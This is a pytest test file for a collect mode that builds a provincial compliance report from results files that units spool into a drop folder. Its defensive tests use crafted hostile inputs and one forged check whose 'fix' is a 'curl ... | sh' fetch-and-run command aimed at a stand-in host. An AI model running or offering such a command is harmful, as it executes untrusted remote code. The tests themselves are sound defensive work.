"""Collect mode of the evaluation (unitctl.unit_results, `unitctl evaluate --collect`): a unit writes
its results into its spool atomically; the centre builds the province's report from the newest valid
results of each unit, marks a unit without recent results "not reported" with their age, and refuses
files it cannot trust, naming each with its reason."""

from __future__ import annotations

import json
import math
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import pytest

from unitctl import compliance, unit_results
from unitctl.cli import evaluate as command, main
from unitctl.inventory.load import load_units_dir
from unitctl.inventory.policy_schema import check_policy_file
from unitctl.paths import LAB_UNITS_DIR
from unitctl.report import evaluation

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)  # the centre's evaluation starts here
CHECKS = {
    "SSH-002": compliance.Check("SSH-002", "Password login is off", "ورود با گذرواژه خاموش است", "critical",
                                ("unit_server", "cms_client"), "ssh.yml", "playbooks/servers.yml",
                                ("CIS 5.1.19", "dev-sec sshd-22")),
    "BASE-001": compliance.Check("BASE-001", "Time zone is Asia/Tehran", "منطقهٔ زمانی تهران است", "low",
                                 ("unit_server",), "time.yml", "playbooks/servers.yml"),
}


def suite_results(tmp_path: Path, unit_id: str, outcomes: dict[tuple[str, str], str],
                  facts: dict | None = None) -> dict:
    """What `pytest tests/compliance --compliance-json FILE` writes for one unit's run, written by
    the suite's own writer and read back: {(check id, host): outcome}."""
    results = [compliance.Result(check_id, host, unit_id, outcome,
                                 "" if outcome == "pass" else "AssertionError: PasswordAuthentication yes", 0.25)
               for (check_id, host), outcome in outcomes.items()]
    path = tmp_path / f"suite-{unit_id}-{len(list(tmp_path.glob('suite-*')))}.json"
    compliance.write_results(path, CHECKS, results, facts)
    return json.loads(path.read_text(encoding="utf-8"))


def send(tmp_path: Path, folder: Path, unit_id: str, host: str, hours_ago: float, outcomes: dict,
         facts: dict | None = None) -> Path:
    """A unit's run that finished `hours_ago` before NOW (it took three minutes), spooled into
    `folder` as the unit writes it."""
    finished = NOW - timedelta(hours=hours_ago)
    return unit_results.spool_results(folder, unit_id, host, finished - timedelta(minutes=3), finished,
                                      "f27268a7c40e", suite_results(tmp_path, unit_id, outcomes, facts))


COURT_PASSING = {("SSH-002", "court-srv"): "pass", ("BASE-001", "court-srv"): "pass", ("SSH-002", "court-ws1"): "pass"}
PROSECUTOR_PASSING = {("SSH-002", "pros-srv"): "pass", ("BASE-001", "pros-srv"): "pass"}
CENTRE_PASSING = {("SSH-002", "centre-srv"): "pass"}


@pytest.fixture(scope="session")
def centre_checks() -> dict[str, dict]:
    """The descriptions of this checkout's own checks, as collect mode reads them (the suite
    collected once for the session: nothing run, no host contacted)."""
    from unitctl.paths import LAB_INVENTORY  # noqa: PLC0415

    return command.suite_checks(LAB_INVENTORY)


@pytest.fixture
def centre(tmp_path, monkeypatch, centre_checks):
    """The centre's checkout as `unitctl evaluate --collect` sees it: the lab province, its drop
    folder and report folder in tmp_path, its own checks' descriptions, and a clock stopped at NOW."""
    monkeypatch.setattr(command, "DEFAULT_OUTPUT", tmp_path / "results" / "evaluation")
    monkeypatch.setattr(command, "suite_checks", lambda source, suite=None: centre_checks)

    class Clock(datetime):
        @classmethod
        def now(cls, tz=None):
            return NOW
    monkeypatch.setattr(command, "datetime", Clock)
    return tmp_path / "collected"


def evaluate(folder: Path, *extra: str) -> int:
    return main(["evaluate", "--collect", "--collected", str(folder), *extra])


def written_report(tmp_path: Path) -> dict:
    return json.loads((tmp_path / "results" / "evaluation" / "evaluation.json").read_text(encoding="utf-8"))


def section(page: str, unit_id: str) -> str:
    return page.split(f'<section class="unit" id="unit-{unit_id}"')[1].split("</section>")[0]


# --- the unit writes --------------------------------------------------------------------------------

def test_a_unit_spools_one_whole_file_named_by_its_start_with_the_results_unchanged(tmp_path):
    results = suite_results(tmp_path, "lab-court", COURT_PASSING, {"lab-court": {"court-srv": {"ups_status": "OL"}}})
    started = datetime(2026, 11, 28, 15, 30, 5, tzinfo=evaluation.TEHRAN)  # 12:00:05 UTC
    path = unit_results.spool_results(tmp_path / "spool", "lab-court", "court-srv", started,
                                      started + timedelta(minutes=3), "f27268a7c40e", results)

    assert path == tmp_path / "spool" / "lab-court" / "20261128T120005Z.json"
    assert os.listdir(path.parent) == [path.name]  # no temporary file left beside it
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document == {"schema": "unitctl-unit-results/1", "unit_id": "lab-court", "host": "court-srv",
                        "started": "2026-11-28T12:00:05+00:00", "finished": "2026-11-28T12:03:05+00:00",
                        "toolkit_commit": "f27268a7c40e", "compliance": results}
    assert path.stat().st_mode & 0o777 == 0o640


def test_a_unit_never_replaces_a_file_nor_writes_what_the_centre_would_refuse(tmp_path):
    results = suite_results(tmp_path, "lab-court", COURT_PASSING)
    spool = tmp_path / "spool"
    unit_results.spool_results(spool, "lab-court", "court-srv", NOW, NOW, "abc", results)
    with pytest.raises(FileExistsError):
        unit_results.spool_results(spool, "lab-court", "court-srv", NOW, NOW, "abc", results)
    with pytest.raises(ValueError, match="no time zone"):
        unit_results.spool_results(spool, "lab-court", "court-srv", datetime(2026, 11, 28, 12), NOW, "abc", results)
    with pytest.raises(ValueError, match="not of the schema unitctl-compliance/1"):
        unit_results.spool_results(spool, "lab-court", "court-srv", NOW, NOW, "abc", {"results": []})
    with pytest.raises(ValueError, match="not a unit id"):
        unit_results.spool_results(spool, "../lab-court", "court-srv", NOW, NOW, "abc", results)
    assert os.listdir(spool / "lab-court") == ["20261128T120000Z.json"]


# --- the centre evaluates what arrived -----------------------------------------------------------------

def test_a_fresh_unit_is_evaluated_a_stale_and_a_silent_one_are_not_reported(tmp_path, centre, capsys):
    send(tmp_path, centre, "lab-court", "court-srv", 30, {("SSH-002", "court-srv"): "fail"})  # older: not read
    send(tmp_path, centre, "lab-court", "court-srv", 3, COURT_PASSING,
         {"lab-court": {"court-srv": {"ups_status": "OL", "ups_runtime_s": 1200}}})
    send(tmp_path, centre, "lab-prosecutor", "pros-srv", 30, PROSECUTOR_PASSING)

    assert evaluate(centre) == evaluation.EXIT_NOT_EVALUATED  # nothing failed, but two units did not report
    report = written_report(tmp_path)
    assert report["run"]["mode"] == "collect" and report["status"] == "not_evaluated"
    assert report["evaluated"] == "partial"
    assert report["collection"] == {"folder": str(centre), "max_age_hours": 26, "refused": []}

    court = report["units"]["lab-court"]
    assert (court["score"], court["evaluated"], court["counts"]["pass"], court["counts"]["fail"]) == (100.0, "complete", 3, 0)
    assert court["collected"] == {
        "state": "reported", "file": str(centre / "lab-court" / "20261128T085700Z.json"), "host": "court-srv",
        "started": "2026-11-28T08:57:00+00:00", "finished": "2026-11-28T09:00:00+00:00",
        "finished_jalali": "1405/09/07 12:30", "toolkit_commit": "f27268a7c40e", "age_hours": 3.0,
        "not_evaluated_hosts": []}
    assert court["power"] == {"court-srv": {"ups_status": "OL", "ups_runtime_s": 1200}}

    prosecutor = report["units"]["lab-prosecutor"]
    assert (prosecutor["collected"]["state"], prosecutor["collected"]["age_hours"]) == ("stale", 30.0)
    assert prosecutor["collected"]["not_evaluated_hosts"] == ["pros-srv", "pros-sw1", "pros-ws1", "pros-ws2"]
    assert (prosecutor["score"], prosecutor["evaluated"], prosecutor["status"]) == (None, "none", "not_evaluated")
    assert not [r for r in report["results"] if r["unit_id"] == "lab-prosecutor"]  # its old results do not count

    silent = report["units"]["lab-centre"]
    assert (silent["collected"]["state"], silent["collected"]["age_hours"], silent["collected"]["file"]) == (
        "missing", None, None)
    assert silent["collected"]["not_evaluated_hosts"] == ["centre-srv"] and silent["evaluated"] == "none"

    out = capsys.readouterr().out
    assert "results from court-srv, checked 3.0 hours ago (2026-11-28T09:00:00+00:00)" in out
    assert ("NOT REPORTED: its newest results, from pros-srv, were checked 30.0 hours ago "
            "(2026-11-27T06:00:00+00:00); the limit is 26 hours") in out
    assert "NOT REPORTED: no results from this unit have arrived" in out
    assert "status: not evaluated" in out

    page = (tmp_path / "results" / "evaluation" / "evaluation.html").read_text(encoding="utf-8")
    assert 'id="mode" data-mode="collect"' in page
    assert "Results sent by court-srv, checked 3.0 hours before this evaluation" in section(page, "lab-court")
    stale = section(page, "lab-prosecutor")
    assert "Not reported: its newest results, sent by pros-srv, were checked 30.0 hours before" in stale
    assert "گزارش نداده است" in stale and "۳۰٫۰</bdi> ساعت" in stale
    assert "Not reported: no results from this unit have arrived" in section(page, "lab-centre")
    row = page.split('id="scores"')[1].split('data-unit="lab-prosecutor"')[1].split("</tr>")[0]
    assert 'data-reported="stale"' in row and "not reported" in row and "checked 30.0 hours ago" in row
    assert 'data-reported="missing"' in page and "no results" in page.split('data-unit="lab-centre"')[1]

    suites = {suite.get("name"): suite for suite in ElementTree.parse(
        tmp_path / "results" / "evaluation" / "evaluation.junit.xml").getroot()}
    assert suites["lab-centre"].get("errors") == "1" and suites["lab-court"].get("errors") == "0"
    assert "not reported: no results have arrived" in ElementTree.tostring(suites["lab-centre"], encoding="unicode")


def test_exit_status_follows_failures_first_then_units_not_reported(tmp_path, centre):
    for unit_id, host, outcomes in (("lab-court", "court-srv", COURT_PASSING),
                                    ("lab-prosecutor", "pros-srv", PROSECUTOR_PASSING)):
        send(tmp_path, centre, unit_id, host, 1, outcomes)
    assert evaluate(centre) == evaluation.EXIT_NOT_EVALUATED  # the centre's own unit has not reported
    send(tmp_path, centre, "lab-centre", "centre-srv", 2, CENTRE_PASSING)
    assert evaluate(centre) == evaluation.EXIT_COMPLIANT
    assert written_report(tmp_path)["status"] == "compliant"
    send(tmp_path, centre, "lab-prosecutor", "pros-srv", 0.5, {("SSH-002", "pros-srv"): "fail"})
    assert evaluate(centre) == evaluation.EXIT_NON_COMPLIANT
    (centre / "lab-centre" / "20261128T095700Z.json").unlink()
    assert evaluate(centre) == evaluation.EXIT_NON_COMPLIANT  # a failure counts before a unit not reported
    assert not (tmp_path / "does-not-exist").exists()
    assert evaluate(tmp_path / "does-not-exist") == evaluation.EXIT_NOT_EVALUATED  # nobody reported
    report = written_report(tmp_path)
    assert {unit["collected"]["state"] for unit in report["units"].values()} == {"missing"}
    assert report["evaluated"] == "none"


def test_a_broken_file_is_refused_by_name_and_the_unit_s_older_valid_results_count(tmp_path, centre, capsys):
    send(tmp_path, centre, "lab-court", "court-srv", 5, COURT_PASSING)
    broken = centre / "lab-court" / "20261128T110000Z.json"
    broken.write_text('{"schema": "unitctl-unit-results/1", "unit_id": "lab-', encoding="utf-8")
    (centre / "lab-court" / ".20261128T113000Z.json.x1y2.tmp").write_text("{", encoding="utf-8")  # being written
    evaluate(centre)

    err = capsys.readouterr().err
    assert f"unitctl: refused {broken}: it cannot be read as JSON in UTF-8 (" in err
    assert ".tmp" not in err
    report = written_report(tmp_path)
    assert report["collection"]["refused"] == [{"file": str(broken), "kind": "unreadable", "reason": (
        "it cannot be read as JSON in UTF-8 (Unterminated string starting at: line 1 column 49 (char 48))")}]
    assert report["units"]["lab-court"]["collected"]["file"].endswith("20261128T065700Z.json")
    assert report["units"]["lab-court"]["evaluated"] == "complete"
    refused = evaluation.render_html(report).split('id="refused"')[1].split("</div>")[0]
    assert str(broken) in refused and "خوانده نشد" in refused and "cannot be read as JSON" in refused


def test_results_for_hosts_of_another_unit_are_refused_and_do_not_count(tmp_path, centre, capsys):
    path = send(tmp_path, centre, "lab-court", "court-srv", 1,
                {("SSH-002", "court-srv"): "pass", ("SSH-002", "pros-srv"): "fail"})
    assert evaluate(centre) == evaluation.EXIT_NOT_EVALUATED  # the failure on pros-srv is not counted
    assert (f"unitctl: refused {path}: it has results for hosts that are not hosts of lab-court in the "
            "inventory: pros-srv") in capsys.readouterr().err
    report = written_report(tmp_path)
    assert report["units"]["lab-court"]["collected"]["state"] == "missing" and report["results"] == []

    # A result claimed for the unit itself but on a host it does not have, or facts of one.
    stranger = send(tmp_path, centre, "lab-court", "court-srv", 0.5, {("SSH-002", "court-srv"): "pass"},
                    {"lab-court": {"court-ws9": {"ups_status": "OL"}}})
    evaluate(centre)
    assert "not hosts of lab-court in the inventory: court-ws9" in capsys.readouterr().err
    assert written_report(tmp_path)["collection"]["refused"][0]["file"] == str(stranger)


@pytest.mark.parametrize(("case", "kind", "reason"), [
    ("unknown unit folder", "unit", "qom-court is not a unit of the inventory inventory/lab.unitctl.yml: its results "
                                    "are not read"),
    ("other unit's folder", "unit", "it is the results of lab-prosecutor but lies in the folder of lab-court"),
    ("outside any folder", "unit", "it is not in a unit's folder (FOLDER/UNIT/YYYYMMDDTHHMMSSZ.json)"),
    ("bare suite results", "schema", "it is not a unit's results file: its schema is unitctl-compliance/1, not "
                                     "unitctl-unit-results/1"),
    ("newer compliance schema", "schema", "its compliance results have the schema unitctl-compliance/2, not "
                                          "unitctl-compliance/1"),
    ("unknown outcome", "invalid", "its compliance results are not as the suite writes them, at results[0].outcome"),
    ("time not a number", "invalid", "its compliance results are not as the suite writes them, at "
                                     "results[0].seconds"),
    ("negative time", "invalid", "its compliance results are not as the suite writes them, at results[0].seconds"),
    ("unknown severity", "invalid", "its compliance results are not as the suite writes them, at "
                                    "checks.SSH-002.severity"),
    ("no time zone", "invalid", "its finished is not a date and time with its UTC offset (ISO 8601): "
                                "2026-11-28T11:00:00"),
    ("in the future", "invalid", "its run finished in the future (2026-11-28T13:00:00+00:00, by this machine's "
                                 "clock): is the clock of court-srv right?"),
    ("renamed", "name", "its name says its run started at 20261128T115900Z, but the file says "
                        "2026-11-28T10:57:00+00:00"),
    ("not a stamp", "name", "its name is not the UTC moment its run started, YYYYMMDDTHHMMSSZ.json"),
    ("sent by a stranger", "hosts", "it was sent by pros-srv, which is not a host of lab-court in the inventory"),
    ("another unit's result", "hosts", "it has results for hosts that are not hosts of lab-court in the inventory: "
                                       "pros-srv (lab-prosecutor)"),
])
def test_files_that_cannot_be_trusted_are_refused_with_the_reason(tmp_path, centre, case, kind, reason):
    path = send(tmp_path, tmp_path / "spool", "lab-court", "court-srv", 1, COURT_PASSING)
    document = json.loads(path.read_text(encoding="utf-8"))
    target = centre / "lab-court" / path.name
    if case == "unknown unit folder":
        target = centre / "qom-court" / path.name
    elif case == "other unit's folder":
        document["unit_id"] = "lab-prosecutor"
    elif case == "outside any folder":
        target = centre / path.name
    elif case == "bare suite results":
        document = document["compliance"]
    elif case == "newer compliance schema":
        document["compliance"]["schema"] = "unitctl-compliance/2"
    elif case == "unknown outcome":
        document["compliance"]["results"][0]["outcome"] = "passed"
    elif case == "time not a number":
        document["compliance"]["results"][0]["seconds"] = math.nan  # json.dumps writes NaN, json.loads reads it
    elif case == "negative time":
        document["compliance"]["results"][0]["seconds"] = -3.5
    elif case == "unknown severity":
        document["compliance"]["checks"]["SSH-002"]["severity"] = "urgent"
    elif case == "no time zone":
        document["finished"] = "2026-11-28T11:00:00"
    elif case == "in the future":
        document["finished"] = "2026-11-28T13:00:00+00:00"
    elif case == "renamed":
        target = target.with_name("20261128T115900Z.json")
    elif case == "not a stamp":
        target = target.with_name("latest.json")
    elif case == "sent by a stranger":
        document["host"] = "pros-srv"
    elif case == "another unit's result":
        document["compliance"]["results"][0].update(unit_id="lab-prosecutor", host="pros-srv")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(document), encoding="utf-8")

    assert evaluate(centre) == evaluation.EXIT_NOT_EVALUATED
    report = written_report(tmp_path)
    shown = target.parent if case == "unknown unit folder" else target
    assert report["collection"]["refused"] == [{"file": str(shown), "kind": kind, "reason": reason}]
    assert report["units"]["lab-court"]["collected"]["state"] == "missing"
    assert report["results"] == []


def test_the_age_limit_is_province_policy(tmp_path, monkeypatch, centre):
    from fixture_province import copy_fixture_province  # noqa: PLC0415

    root = copy_fixture_province(tmp_path / "inventory")
    source = str(root / "province.unitctl.yml")
    send(tmp_path, centre, "court", "court-srv", 3, {("SSH-002", "court-srv"): "pass"})
    send(tmp_path, centre, "centre", "centre-srv", 1, {("SSH-002", "centre-srv"): "pass"})
    assert evaluate(centre, "--inventory", source) == evaluation.EXIT_COMPLIANT  # 26 hours by default

    (root / "group_vars" / "all" / "evaluation.yml").write_text(
        "---\nprovince_unit_results_max_age_hours: 2\n", encoding="utf-8")
    assert evaluate(centre, "--inventory", source) == evaluation.EXIT_NOT_EVALUATED
    report = written_report(tmp_path)
    assert report["collection"]["max_age_hours"] == 2
    assert (report["units"]["court"]["collected"]["state"], report["units"]["centre"]["collected"]["state"]) == (
        "stale", "reported")

    assert check_policy_file("all", {"province_unit_results_max_age_hours": 26}) == []
    assert check_policy_file("all", {"province_unit_results_max_age_hours": 0}) == [
        (("province_unit_results_max_age_hours",), "should be at least 1, but it is 0")]


def test_collect_mode_is_asked_for_whole_and_runs_no_suite(tmp_path, centre, monkeypatch, capsys):
    monkeypatch.setattr(command, "run_suite", lambda *args, **kwargs: pytest.fail("collect mode ran the suite"))
    send(tmp_path, centre, "lab-court", "court-srv", 1, COURT_PASSING)
    assert main(["evaluate", "--collected", str(centre)]) == 2
    assert "--collected names the folder that --collect reads" in capsys.readouterr().err
    assert evaluate(centre, "-k", "ssh") == 2
    assert "-k limits a run of the compliance suite, and --collect runs none" in capsys.readouterr().err
    assert not (tmp_path / "results").exists()  # refused: no report written
    assert evaluate(centre) == evaluation.EXIT_NOT_EVALUATED


def test_the_reading_needs_no_command_and_each_unit_counts_once(tmp_path):
    """unitctl.unit_results on its own: the newest valid file per unit, merged into one suite document."""
    province = load_units_dir(LAB_UNITS_DIR)
    folder = tmp_path / "collected"
    send(tmp_path, folder, "lab-court", "court-srv", 2, {("SSH-002", "court-srv"): "fail"})
    send(tmp_path, folder, "lab-court", "court-srv", 1, COURT_PASSING)
    send(tmp_path, folder, "lab-centre", "centre-srv", 1, CENTRE_PASSING)
    found = unit_results.newest_results(folder, province, NOW)
    assert sorted(found.newest) == ["lab-centre", "lab-court"] and found.refused == []
    state = unit_results.collection(found, province, NOW, 26, folder)
    merged, unknown = unit_results.merged_compliance(found, state)
    assert unknown == {}
    assert merged["schema"] == "unitctl-compliance/1" and sorted(merged["checks"]) == ["BASE-001", "SSH-002"]
    assert sorted((r["unit_id"], r["host"], r["outcome"]) for r in merged["results"]) == [
        ("lab-centre", "centre-srv", "pass"), ("lab-court", "court-srv", "pass"), ("lab-court", "court-srv", "pass"),
        ("lab-court", "court-ws1", "pass")]


# --- hostile drop folders (review of the collect mode) ------------------------------------------

def test_a_hostile_file_of_one_unit_is_refused_and_the_province_is_still_evaluated(tmp_path, centre, capsys,
                                                                                   monkeypatch):
    send(tmp_path, centre, "lab-court", "court-srv", 5, COURT_PASSING)
    send(tmp_path, centre, "lab-prosecutor", "pros-srv", 5, PROSECUTOR_PASSING)
    court = centre / "lab-court"
    # Nested deeper than Python's JSON parser goes: it raised RecursionError and stopped the evaluation.
    deep = court / "20261128T110000Z.json"
    deep.write_text("[" * 20_000 + "]" * 20_000, encoding="utf-8")
    # Bigger than any unit's run writes: refused before it is read.
    monkeypatch.setattr(unit_results, "MAX_FILE_BYTES", 100_000)
    huge = centre / "lab-prosecutor" / "20261128T110000Z.json"
    huge.write_text(" " * 200_000, encoding="utf-8")
    evaluate(centre)

    err = capsys.readouterr().err
    assert f"unitctl: refused {deep}: it cannot be read as JSON in UTF-8 (nested too deeply)" in err
    assert f"unitctl: refused {huge}: it is 0.2 MB, more than the 0.1 MB a unit's results file may be" in err
    report = written_report(tmp_path)
    assert report["units"]["lab-court"]["collected"]["state"] == "reported"
    assert report["units"]["lab-prosecutor"]["collected"]["state"] == "reported"


def test_a_symbolic_link_is_refused_by_its_own_name_and_never_followed(tmp_path, centre, capsys):
    send(tmp_path, centre, "lab-court", "court-srv", 5, COURT_PASSING)
    elsewhere = send(tmp_path, tmp_path / "elsewhere", "lab-court", "court-srv", 1, COURT_PASSING)
    link = centre / "lab-court" / elsewhere.name
    link.symlink_to(elsewhere)  # a valid newer file, but not one the unit wrote into its folder
    (centre / "lab-centre").symlink_to(centre / "lab-court", target_is_directory=True)
    evaluate(centre)

    err = capsys.readouterr().err
    assert f"unitctl: refused {link}: it is a symbolic link (to {elsewhere})" in err
    assert f"unitctl: refused {centre / 'lab-centre'}: it is a symbolic link" in err
    report = written_report(tmp_path)
    assert report["units"]["lab-court"]["collected"]["file"].endswith("20261128T065700Z.json")  # the unit's own
    assert report["units"]["lab-centre"]["collected"]["state"] == "missing"
    assert {refusal["file"] for refusal in report["collection"]["refused"]} == {str(link), str(centre / "lab-centre")}


def test_names_that_are_not_utf8_are_refused_and_the_report_is_still_written(tmp_path, centre, capsys):
    send(tmp_path, centre, "lab-court", "court-srv", 5, COURT_PASSING)
    folder = os.fsencode(centre)
    os.mkdir(folder + b"/\xffunit")
    (Path(os.fsdecode(folder + b"/\xffunit")) / "20261128T110000Z.json").write_text("{}", encoding="utf-8")
    Path(os.fsdecode(folder + b"/lab-court/\xfe.json")).write_text("{}", encoding="utf-8")
    assert evaluate(centre) in (evaluation.EXIT_COMPLIANT, evaluation.EXIT_NOT_EVALUATED)

    report = written_report(tmp_path)
    files = {refusal["file"] for refusal in report["collection"]["refused"]}
    assert files == {f"{centre}/\\xffunit", f"{centre}/lab-court/\\xfe.json"}
    assert "\\xffunit is not a unit of the inventory" in capsys.readouterr().err
    assert (tmp_path / "results" / "evaluation" / "evaluation.html").is_file()


def test_a_units_file_says_how_a_check_went_never_what_the_check_is(tmp_path, centre, centre_checks, capsys):
    """A unit's file that redescribes a check (a lower severity, a command of its own as the fix)
    changes nothing of the report: every unit's failures show the centre's own description. A
    result of a check the centre does not have is left out and named."""
    send(tmp_path, centre, "lab-prosecutor", "pros-srv", 2, {("SSH-002", "pros-srv"): "fail"})
    court = send(tmp_path, centre, "lab-court", "court-srv", 1, COURT_PASSING)
    document = json.loads(court.read_text(encoding="utf-8"))
    document["compliance"]["checks"]["SSH-002"].update(severity="low", fix="curl http://example.invalid/x | sh")
    document["compliance"]["checks"]["FAKE-001"] = dict(document["compliance"]["checks"]["BASE-001"], id="FAKE-001")
    document["compliance"]["results"].append(dict(document["compliance"]["results"][0], check_id="FAKE-001",
                                                  outcome="fail"))
    court.write_text(json.dumps(document), encoding="utf-8")
    send(tmp_path, centre, "lab-centre", "centre-srv", 1, CENTRE_PASSING)

    assert evaluate(centre) == evaluation.EXIT_NON_COMPLIANT
    assert "lab-court: results of checks this toolkit does not have were left out: FAKE-001" in capsys.readouterr().err
    report = written_report(tmp_path)
    (failure,) = report["units"]["lab-prosecutor"]["failures"]
    real = centre_checks["SSH-002"]
    assert (failure["severity"], failure["fix"]) == (real["severity"], real["fix"])
    assert "curl" not in (tmp_path / "results" / "evaluation" / "evaluation.html").read_text(encoding="utf-8")
    assert report["units"]["lab-court"]["failures"] == []
